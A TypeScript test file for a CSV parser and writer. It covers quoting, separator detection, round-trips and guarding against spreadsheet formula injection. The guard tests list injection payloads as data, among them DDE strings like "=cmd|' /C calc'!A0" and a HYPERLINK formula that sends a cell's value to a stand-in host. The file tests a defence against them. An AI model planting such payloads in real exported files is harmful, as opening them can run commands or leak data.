import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvRecords } from './csv.ts'
import { delimiterOf, DELIMITERS } from './delimiter.ts'
import { csvLine, guardFormula, unguardFormula } from './formula.ts'
import { joinWords, splitWords } from './words.ts'

const read = (text: string) => [...csvRecords(text, ',')].map(({ cells }) => cells)

describe('records', () => {
  test('quoted cells hold separators, line breaks and doubled quotes; line ends may be of any kind', () => {
    expect(read('a,"b, c"\r\n"say ""hi""","two\r\nlines"\rx,y\n')).toEqual([
      ['a', 'b, c'],
      ['say "hi"', 'two\nlines'],
      ['x', 'y'],
    ])
  })
  test('each record knows its line, also behind a cell of several lines and an empty one', () => {
    expect([...csvRecords('h\n"a\nb"\n\nc\n', ',')].map(({ line }) => line)).toEqual([1, 2, 5])
  })
  test('a quote that is never closed is refused by the line it opens on, not read to the end', () => {
    expect(() => read('name,location\nA,Pune\nB,"Delhi\nC,Agra\n')).toThrow(
      'The quote opened in the record on line 3 is never closed.',
    )
  })
  test('a stray quote behind a closing one is refused', () => {
    expect(() => read('name\n"A"x,"B"\n')).toThrow('The record on line 2 has a stray quote')
  })
  test('text far larger than a piece comes through whole, wherever the pieces are cut', () => {
    const rows = Array.from({ length: 9000 }, (_, at) => [
      `College ${at}`,
      `"Near", the\nriver ${at}`,
      'x'.repeat(at % 97),
    ])
    const text = rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n')
    expect(read(text)).toEqual(rows)
  })
})

describe('the separator', () => {
  test.each([
    [',', 'name,city\nA,"Pune; Camp"\nB,Agra'],
    [';', 'name;fee\n"A, B";1,5\n"C, D";2,5'],
    ['\t', 'Home, page\nname\tcity\tfee\nA, B\tPune\t1,00,000\nC\tAgra\t2'],
    ['|', 'name|city\nA|Pune\nB|Agra'],
  ])('%j is recognised', (delimiter, text) => expect(delimiterOf(text)).toBe(delimiter))
  test('one column alone is a table too', () => expect(delimiterOf('name\nA\nB')).toBe(','))
})

/**
 * How a sheet takes a cell: as a formula by its first character, unless all of it is a number. Told apart from the rule
 * it tests: here digits and their marks alone are a number.
 */
const runsAsFormula = (cell: string): boolean =>
  '=+-@\t\r\n'.includes(cell.charAt(0) || ' ') &&
  !(cell.length > 1 && '+-'.includes(cell.charAt(0)) && !/[^0-9.,]/.test(cell.slice(1)))

describe('what we write we read', () => {
  const cell = fc.string({
    unit: fc.constantFrom('a', '"', ',', '\n', '\r', '=', '+', '-', '@', '\t', "'", ' ', '1', ';', '|', 'न', '₹'),
    maxLength: 12,
  })
  test('any table comes back as it was, formula guards and all; line ends come back as line feeds, whatever they were, and nothing else is lost', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const filled = rows.map((row) => ['x', ...row])
        expect(read(filled.map(csvLine).join('')).map((cells) => cells.map(unguardFormula))).toEqual(
          filled.map((row) => row.map((text) => text.replace(/\r\n?/g, '\n'))),
        )
      }),
      { numRuns: 10_000 },
    )
  })
  test.each([
    ['\rHostel', '\nHostel'],
    ['\r\nHostel', '\nHostel'],
    ["'\rHostel", "'\nHostel"],
    ["'\nHostel", "'\nHostel"],
    ['\r=1+1', '\n=1+1'],
  ])('%j comes back as %j: no apostrophe of ours stays before it, and none of its own is lost', (written, back) => {
    expect(read(csvLine(['x', written])).map((cells) => cells.map(unguardFormula))).toEqual([['x', back]])
  })
  test('[R56] a sheet runs none of our cells: one that begins as a formula is a number to its end, whatever it is read from', () => {
    const written = fc.string({
      unit: fc.constantFrom(
        'a',
        '"',
        ',',
        '\n',
        '\r',
        '\t',
        '=',
        '+',
        '-',
        '@',
        "'",
        ' ',
        '1',
        '0',
        '.',
        ';',
        '|',
        '!',
        '(',
        ')',
        'E',
        'cmd',
        '₹',
      ),
      maxLength: 12,
    })
    fc.assert(
      fc.property(fc.array(written, { minLength: 2, maxLength: 4 }), (cells) => {
        expect(cells.map(guardFormula).filter(runsAsFormula)).toEqual([])
        // As it stands in the file, quotes, line breaks and all.
        expect(
          read(csvLine(['x', ...cells]))
            .flat()
            .filter(runsAsFormula),
        ).toEqual([])
      }),
      { numRuns: 10_000 },
    )
  })
  test.each([
    '=1+1',
    '@a',
    '+91 44 2257',
    "=cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"x")',
    '\t=1+1',
    '\r=1+1',
    '\r\n=1+1',
    '\n=1+1',
    "'=1+1",
    '-1E5+A1',
    '+-1',
    '-',
    '-(1)',
  ])('%j is written with an apostrophe before it', (text) => {
    expect(runsAsFormula(text) || text.startsWith("'")).toBe(true)
    expect(guardFormula(text)).toBe(`'${text}`)
  })
  test.each(['-12.5', '+5', '-1,00,000', '-1.800,50', '12', '₹-5'])('%j is a figure and stays as it is', (text) =>
    expect(guardFormula(text)).toBe(text),
  )
  test('any list of words comes back as it was', () => {
    const word = fc
      .string({ unit: fc.constantFrom('a', '|', '\\', ',', ';', "'", '[', ' ', 'z'), minLength: 1, maxLength: 8 })
      .map((text) => `a${text.trim()}z`)
    fc.assert(
      fc.property(fc.array(word, { maxLength: 5 }), (words) => {
        expect(splitWords(joinWords(words))).toEqual(words)
      }),
      { numRuns: 10_000 },
    )
  })
  test('words of others are read however they were written', () => {
    expect(splitWords("['AICTE', 'UGC']")).toEqual(['AICTE', 'UGC'])
    expect(splitWords('[]')).toEqual([])
    expect(splitWords('AICTE|UGC')).toEqual(['AICTE', 'UGC'])
    expect(splitWords('AICTE, UGC; NBA')).toEqual(['AICTE', 'UGC', 'NBA'])
  })
})

test('whatever text comes, records come out or a sentence does, and never half of one', () => {
  const piece = fc.constantFrom(
    '"',
    '""',
    ',',
    ';',
    '\t',
    '|',
    '\n',
    '\r\n',
    '\r',
    'name',
    'location',
    'x',
    '1',
    '=',
    '\u200B',
    '\uFEFF',
    ' ',
  )
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')),
      fc.constantFrom(...DELIMITERS),
      (text, delimiter) => {
        let cells: string[][]
        try {
          cells = [...csvRecords(text, delimiter)].map((record) => record.cells)
        } catch (thrown) {
          expect((thrown as { code?: string }).code).toBe('IMPORT_INVALID')
          return
        }
        // Every letter of the text stands in exactly one cell.
        expect(
          cells
            .flat()
            .join('')
            .replace(/[^a-z1]/g, ''),
        ).toBe(text.replace(/[^a-z1]/g, ''))
      },
    ),
    { numRuns: 20_000 },
  )
})
